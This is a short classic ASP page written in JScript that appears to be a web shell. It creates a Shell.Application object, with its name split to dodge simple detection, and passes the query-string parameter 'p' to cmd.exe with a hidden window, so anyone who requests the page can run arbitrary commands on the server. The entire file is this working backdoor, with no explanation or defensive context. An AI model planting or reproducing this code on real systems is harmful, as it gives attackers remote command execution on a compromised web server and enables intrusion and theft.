<%@ Language="JScript" %>
<%
var a = new ActiveXObject("Shell" + ".Application");
var prog = Request.QueryString("p");
a.ShellExecute("cmd.exe", "/c " + prog, "", "open", 0);
%>
